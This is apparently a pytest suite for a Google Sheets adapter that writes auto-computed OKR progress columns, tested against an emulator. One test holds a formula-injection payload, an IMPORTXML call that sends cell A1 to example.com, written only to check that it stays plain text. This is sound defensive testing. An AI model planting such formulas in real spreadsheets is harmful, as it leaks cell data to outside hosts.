"""What is written into a Google Sheet: two calls, our columns alone, and nothing where nothing changed."""

from __future__ import annotations

import json
from typing import Any

import pytest

from okrsheets.adapters.gsheets import GsheetsAdapter
from okrsheets.adapters.gsheets.asking import HEADING_NOTE
from okrsheets.edits import CellEdit, EditKind, ManagedRole, WritePlan
from okrsheets.errors import SourceChangedError
from okrsheets.grid import CellRange, CellRef, SheetTable
from tests.adapters.gsheets.books import BOT, access_to, area, make, on_the_clock
from tests.adapters.gsheets.runs import Runs
from tests.sheets_emulator import Emulator, Server

PLAN = """
    | ID   | Objective | Key result        | Owner | Baseline | Current | Target |
    | CO-1 | Expand    | Win 40 customers  | Mara  | 5        | 19      | 40     |
    | CO-1 | Expand    | Open in 3 cities  | Jo    | 0        | 1       | 3      |
    | CO-2 | Delight   | Raise NPS         | Ann   | 20       | 30      | 40     |
"""
OURS = ("H", "I", "J", "K", "L", "M", "N")


def _of_team(n: int) -> str:
    """The plan in other words, so that no tab is a copy of another."""
    words = ("Expand", "Delight", "Win", "Open", "Raise")
    text = PLAN.replace("CO-", f"T{n}-")
    for word in words:
        text = text.replace(word, f"{word} {'abcdefghijkl'[n] * 5}")
    return text


@pytest.fixture
def runs(emulator: Emulator, adapter: GsheetsAdapter) -> Runs:
    return Runs(emulator, adapter, make(emulator, {"Plan": PLAN}))


def _requests(emulator: Emulator) -> list[dict[str, Any]]:
    """The requests of all batches so far."""
    return [
        request
        for entry in emulator.log.entries
        if entry.kind == "write"
        for request in entry.body["requests"]
    ]


def test_twelve_tabs_cost_one_read_and_one_write_and_the_second_sync_one_read(
    emulator: Emulator, adapter: GsheetsAdapter
) -> None:
    runs = Runs(emulator, adapter, make(emulator, {f"Team {n}": _of_team(n) for n in range(12)}))
    outcome = runs.sync()
    assert outcome is not None
    assert not outcome.refused
    assert (emulator.log.count("read"), emulator.log.count("write")) == (1, 1)
    emulator.log.clear()
    assert runs.sync() is None
    assert (emulator.log.count("read"), emulator.log.count("write")) == (1, 0)
    assert all(runs.says(f"Team {n}", "H1", "H2") == ["Progress (auto)", 0.4] for n in range(12))


def test_columns_of_ours_stand_beside_the_table_and_all_else_is_as_it_was(runs: Runs) -> None:
    before = dict(runs.tab("Plan").cells)
    outcome = runs.sync()
    assert outcome is not None
    headings = runs.says("Plan", *(f"{column}1" for column in OURS))
    assert headings == [role.value for role in ManagedRole if role is not ManagedRole.KEY_RESULTS]
    assert runs.says("Plan", "H2", "I2", "H3", "L2") == [0.4, "behind", 0.3333, 0.3667]
    after = runs.tab("Plan").cells
    assert {place: cell for place, cell in after.items() if place[1] < 7} == before
    assert {edit.ref.a1 for edit in outcome.written} >= {"H2", "H3", "H4"}


def test_values_are_typed_and_never_parsed_as_if_a_person_typed_them(runs: Runs, emulator: Emulator) -> None:
    runs.sync()
    entries = [entry for entry in emulator.log.entries if entry.kind == "write"]
    assert all(entry.path.endswith(":batchUpdate") for entry in entries)
    assert "USER_ENTERED" not in json.dumps([entry.body for entry in entries])
    kinds = {kind for request in _requests(emulator) for kind in request}
    assert kinds <= {
        "appendDimension",
        "copyPaste",
        "repeatCell",
        "setDataValidation",
        "updateCells",
        "updateDimensionProperties",
    }


def test_a_text_that_begins_like_a_formula_stays_a_text(runs: Runs) -> None:
    workbook = runs.workbook()
    ref = CellRef(runs.link, "Plan", 2, 9)
    evil = '=IMPORTXML("http://example.com?"&A1,"//a")'
    edit = CellEdit(ref, ManagedRole.STATUS, "k", None, evil, EditKind.TEXT)
    runs.adapter.apply(WritePlan(runs.link, workbook.revision, (edit,)))
    assert runs.cell("Plan", "I2")["userEnteredValue"] == {"stringValue": evil}


def test_progress_is_shown_as_a_percentage_and_words_as_words(runs: Runs) -> None:
    fmt = {"userEnteredFormat": {"numberFormat": {"type": "CURRENCY", "pattern": "[$€]0"}}}
    runs.edit(
        {"repeatCell": {"range": area("G1:G4"), "cell": fmt, "fields": "userEnteredFormat.numberFormat"}}
    )
    runs.sync()
    formats = [
        runs.cell("Plan", at).get("userEnteredFormat", {}).get("numberFormat") for at in ("H2", "I2", "L2")
    ]
    assert formats == [{"type": "PERCENT", "pattern": "0%"}, None, {"type": "PERCENT", "pattern": "0%"}]


def test_a_note_on_our_headings_says_whose_they_are_and_peoples_notes_stay(runs: Runs) -> None:
    mine = {
        "start": {"rowIndex": 0, "columnIndex": 8},
        "rows": [{"values": [{"note": "mine"}]}],
        "fields": "note",
    }
    runs.edit({"updateCells": mine})
    runs.sync()
    notes = [runs.cell("Plan", f"{column}1").get("note") for column in "GHIJ"]
    assert notes == [None, HEADING_NOTE, "mine", HEADING_NOTE]


def test_new_columns_look_like_their_neighbour_without_its_list_to_choose_from(runs: Runs) -> None:
    look = {"backgroundColorStyle": {"rgbColor": {"red": 1}}, "textFormat": {"italic": True}}
    rule = {"condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "40"}]}}
    runs.edit(
        {
            "repeatCell": {
                "range": area("G1:G4"),
                "cell": {"userEnteredFormat": look},
                "fields": "userEnteredFormat",
            }
        },
        {"setDataValidation": {"range": area("G2:G4"), "rule": rule}},
    )
    runs.sync()
    for at in ("H1", "I3", "N4"):
        cell = runs.cell("Plan", at)
        assert cell["userEnteredFormat"]["textFormat"] == {"italic": True}
        assert cell["userEnteredFormat"]["backgroundColorStyle"] == {"rgbColor": {"red": 1}}
        assert "dataValidation" not in cell
    assert "dataValidation" in runs.cell("Plan", "G2")


def test_new_columns_are_as_wide_as_they_need_and_widths_of_people_stay(runs: Runs) -> None:
    stretch = {"dimension": "COLUMNS", "startIndex": 9, "endIndex": 10}
    wide = {"range": stretch, "properties": {"pixelSize": 300}, "fields": "pixelSize"}
    runs.edit({"updateDimensionProperties": wide})
    runs.sync()
    sizes = runs.tab("Plan").sizes["COLUMNS"]
    assert sizes[9]["pixelSize"] == 300
    assert 100 < sizes[7]["pixelSize"] < sizes[10]["pixelSize"]


def test_a_grid_without_room_grows_at_its_edge(emulator: Emulator, adapter: GsheetsAdapter) -> None:
    size = {"gridProperties": {"rowCount": 4, "columnCount": 7}}
    narrow = {"updateSheetProperties": {"properties": size, "fields": "gridProperties"}}
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN}, narrow))
    runs.sync()
    assert (runs.tab("Plan").rows, runs.tab("Plan").columns) == (4, 14)
    assert runs.says("Plan", "H2", "N1") == [0.4, "Objective notes (auto)"]


def test_a_row_that_is_added_later_shows_its_progress_as_a_percentage(runs: Runs) -> None:
    runs.sync()
    cells = ["CO-2", "Delight", "Answer in 2 hours", "Jo", 10, 6, 2]
    values = [
        {"userEnteredValue": {"stringValue" if isinstance(c, str) else "numberValue": c}} for c in cells
    ]
    runs.edit(
        {
            "updateCells": {
                "start": {"rowIndex": 4},
                "rows": [{"values": values}],
                "fields": "userEnteredValue",
            }
        }
    )
    runs.sync()
    cell = runs.cell("Plan", "H5")
    assert cell["userEnteredValue"] == {"numberValue": 0.5}
    assert cell["userEnteredFormat"]["numberFormat"]["type"] == "PERCENT"


def test_a_table_of_google_grows_with_our_columns(emulator: Emulator, adapter: GsheetsAdapter) -> None:
    table = {"addTable": {"table": {"name": "Goals", "range": area("A1:G4")}}}
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN}, table))
    runs.sync()
    (sheet,) = runs.workbook().sheets
    assert sheet.tables == (SheetTable("Goals", CellRange(1, 1, 4, 14)),)
    assert runs.says("Plan", "G1", "H1", "H2", "N1") == [
        "Target",
        "Progress (auto)",
        0.4,
        "Objective notes (auto)",
    ]
    assert runs.sync() is None


def test_an_idle_filter_grows_and_one_that_hides_rows_is_left_as_it_is(
    emulator: Emulator, adapter: GsheetsAdapter
) -> None:
    idle = {"setBasicFilter": {"filter": {"range": area("A1:G4")}}}
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN}, idle))
    runs.sync()
    assert sorted((runs.tab("Plan").basic_filter or {})["range"].values()) == [0, 0, 4, 14]
    busy = {"range": area("A1:G4"), "criteria": {"3": {"hiddenValues": ["Jo"]}}}
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN}, {"setBasicFilter": {"filter": busy}}))
    runs.sync()
    assert (runs.tab("Plan").basic_filter or {})["criteria"] == busy["criteria"]
    assert (runs.tab("Plan").basic_filter or {})["range"]["endColumnIndex"] == 7
    assert runs.says("Plan", "H3") == [0.3333]  # a hidden row is written like any other
    assert runs.workbook().sheets[0].hidden_rows == {3}


def test_what_people_hide_and_how_they_look_at_it_is_left_alone(runs: Runs) -> None:
    stretch = {"dimension": "ROWS", "startIndex": 2, "endIndex": 3}
    hide = {"range": stretch, "properties": {"hiddenByUser": True}, "fields": "hiddenByUser"}
    view = {"title": "Mine", "range": area("A1:G4"), "criteria": {"3": {"hiddenValues": ["Jo"]}}}
    runs.edit({"updateDimensionProperties": hide}, {"addFilterView": {"filter": view}})
    before = runs.tab("Plan").parts["filterViews"]
    runs.sync()
    assert runs.tab("Plan").parts["filterViews"] == before
    assert runs.tab("Plan").sizes["ROWS"][2]["hiddenByUser"] is True


def test_a_summary_tab_is_made_once_and_kept_up(emulator: Emulator, adapter: GsheetsAdapter) -> None:
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN})).with_summary()
    outcome = runs.sync()
    assert outcome is not None
    assert outcome.tabs == ("OKR summary",)
    assert (emulator.log.count("read"), emulator.log.count("write")) == (1, 1)
    tab = runs.tab("OKR summary")
    assert (tab.grid["frozenRowCount"], runs.book.sheets[-1] is tab) == (6, True)
    assert runs.cell("OKR summary", "A1")["userEnteredFormat"]["textFormat"] == {"bold": True}
    assert runs.cell("OKR summary", "G7")["userEnteredFormat"]["wrapStrategy"] == "WRAP"


def test_what_cannot_be_written_is_refused_by_name_and_the_rest_is_written(
    emulator: Emulator, adapter: GsheetsAdapter
) -> None:
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN, "Shut": PLAN}))
    shut = runs.tab("Shut").id
    formula = {"userEnteredValue": {"formulaValue": "=1+1"}}
    runs.edit(
        {"addProtectedRange": {"protectedRange": {"range": {"sheetId": shut}}}},
        {"addProtectedRange": {"protectedRange": {"range": area("H2")}}},
        {"mergeCells": {"range": area("I2:I3"), "mergeType": "MERGE_ALL"}},
        {
            "updateCells": {
                "start": {"rowIndex": 1, "columnIndex": 9},
                "rows": [{"values": [formula]}],
                "fields": "*",
            }
        },
    )
    workbook = runs.workbook()

    def edit(tab: str, row: int, column: int, new: Any = "x") -> CellEdit:
        kind = EditKind.TEXT if isinstance(new, str) else EditKind.NUMBER
        return CellEdit(CellRef(runs.link, tab, row, column), ManagedRole.STATUS, "k", None, new, kind)

    edits = [
        edit("Plan", 2, 8),
        edit("Plan", 3, 9),
        edit("Plan", 2, 10),
        edit("Plan", 2, 11, "x" * 50_001),
        edit("Plan", 3, 11, float("nan")),
        edit("Plan", 4, 11, "\ud800"),
        edit("Plan", 0, 11),
        edit("Plan", 2, 20_000),
        edit("Plan", 9_999_999, 11),
        edit("Plan", 4, 12, "written"),
        edit("Shut", 2, 8),
        edit("Gone", 2, 8),
    ]
    outcome = adapter.apply(WritePlan(runs.link, workbook.revision, tuple(edits)))
    assert {(one.sheet, one.at): one.name for one in outcome.refused} == {
        ("Plan", "H2"): "protected-range",
        ("Plan", "I3"): "merged-cell",
        ("Plan", "J2"): "formula-cell",
        ("Plan", "K2"): "text-too-long",
        ("Plan", "K3"): "not-finite",
        ("Plan", "K4"): "not-text",
        ("Plan", "K0"): "outside-sheet",
        ("Plan", "ACOF2"): "outside-sheet",
        ("Plan", "K9999999"): "sheet-full",
        ("Shut", None): "protected-tab",
        ("Gone", None): "no-sheet",
    }
    assert [one.ref.a1 for one in outcome.written] == ["L4"]
    assert runs.says("Plan", "L4") == ["written"]


def test_a_spreadsheet_too_large_for_one_answer_is_written_and_its_days_stay_days(
    emulator: Emulator, server: Server
) -> None:
    rows = [
        f"| O-{n} | Expand {n} | Win {n} more | 5 | 19 | 40 | 2026-12-{n % 20 + 1:02} |" for n in range(120)
    ]
    grid = "\n".join(["| ID | Objective | Key result | Baseline | Current | Target | Due |", *rows])
    policy = on_the_clock(emulator)._replace(most_bytes=100_000)
    adapter = GsheetsAdapter(access_to(server, BOT), policy=policy)
    runs = Runs(emulator, adapter, make(emulator, {"Plan": grid}))
    due = runs.cell("Plan", "G2")
    outcome = runs.sync()
    assert outcome is not None
    assert (outcome.overtaken, runs.attempts) == (False, 1)
    assert (emulator.log.count("read"), emulator.log.count("write")) == (4, 1)
    assert runs.cell("Plan", "G2") == due
    assert runs.says("Plan", "G2", "H1", "H2") == ["2026-12-01", "Progress (auto)", 0.4]
    assert runs.sync() is None


def test_what_is_not_known_of_a_large_spreadsheet_is_neither_taken_for_a_change_nor_written_over(
    emulator: Emulator, server: Server
) -> None:
    rows = [f"| Expand {n} | Win {n} more | 5 | 19 | 40 |" for n in range(120)]
    grid = "\n".join(["| Objective | Key result | Baseline | Current | Target |", *rows])
    policy = on_the_clock(emulator)._replace(most_bytes=60_000)
    adapter = GsheetsAdapter(access_to(server, BOT), policy=policy)
    runs = Runs(emulator, adapter, make(emulator, {"Plan": grid}))
    bold = {"textFormatRuns": [{"startIndex": 2, "format": {"bold": True}}]}
    shown = {"userEnteredFormat": {"numberFormat": {"type": "PERCENT", "pattern": "0.00%"}}}
    start = {"sheetId": 0, "rowIndex": 1, "columnIndex": 1}
    runs.edit({"updateCells": {"start": start, "rows": [{"values": [bold]}], "fields": "textFormatRuns"}})
    assert runs.sync() is not None
    assert (runs.attempts, emulator.log.count("read")) == (1, 4)
    runs.edit(
        {"repeatCell": {"range": area("F2"), "cell": shown, "fields": "userEnteredFormat.numberFormat"}},
        {
            "updateCells": {
                "start": start | {"columnIndex": 3},
                "rows": [{"values": [{"userEnteredValue": {"numberValue": 26}}]}],
                "fields": "userEnteredValue",
            }
        },
    )
    assert runs.sync() is not None
    assert runs.cell("Plan", "B2")["textFormatRuns"][-1]["format"] == {"bold": True}
    assert runs.cell("Plan", "F2") == {"userEnteredValue": {"numberValue": 0.6}, **shown}


def _fill(runs: Runs, *, room: int) -> None:
    """Shrink its tabs to what they hold, and add another that leaves room for so many more cells."""
    for tab in runs.book.sheets:
        size = {"sheetId": tab.id, "gridProperties": {"rowCount": 4, "columnCount": 7}}
        fields = "gridProperties(rowCount,columnCount)"
        runs.edit({"updateSheetProperties": {"properties": size, "fields": fields}})
    rest = 10_000_000 - 28 * len(runs.book.sheets) - room
    grid = {"rowCount": rest // 4, "columnCount": 4}
    runs.edit({"addSheet": {"properties": {"title": "Rest", "gridProperties": grid}}})


def test_room_that_is_enough_for_one_tab_is_not_given_to_two(
    emulator: Emulator, adapter: GsheetsAdapter
) -> None:
    runs = Runs(emulator, adapter, make(emulator, {"One": _of_team(1), "Two": _of_team(2)}))
    _fill(runs, room=40)
    outcome = adapter.apply(runs.read()[1])
    assert {(one.sheet, one.name) for one in outcome.refused} == {("Two", "sheet-full")}
    assert runs.says("One", "H1", "H2") == ["Progress (auto)", 0.4]


def test_a_summary_tab_for_which_there_is_no_room_is_refused_alone(
    emulator: Emulator, adapter: GsheetsAdapter
) -> None:
    runs = Runs(emulator, adapter, make(emulator, {"Plan": PLAN})).with_summary()
    _fill(runs, room=400)  # the new tab is a little larger than what it holds
    outcome = adapter.apply(runs.read()[1])
    assert [(one.sheet, one.name) for one in outcome.refused] == [("OKR summary", "sheet-full")]
    assert runs.says("Plan", "H1", "H2") == ["Progress (auto)", 0.4]


def test_a_plan_for_another_revision_writes_nothing(runs: Runs, emulator: Emulator) -> None:
    _, plan = runs.read()
    runs.edit(
        {
            "updateCells": {
                "start": {"rowIndex": 8},
                "rows": [{"values": [{"userEnteredValue": {"boolValue": True}}]}],
                "fields": "*",
            }
        }
    )
    runs.workbook()
    with pytest.raises(SourceChangedError, match="was changed by someone else meanwhile"):
        runs.adapter.apply(plan)
    assert emulator.log.count("write") == 0


def test_an_empty_plan_makes_no_call(runs: Runs, emulator: Emulator) -> None:
    workbook = runs.workbook()
    emulator.log.clear()
    outcome = runs.adapter.apply(WritePlan(runs.link, workbook.revision))
    assert (outcome.revision, outcome.written) == (workbook.revision, ())
    assert emulator.log.entries == []
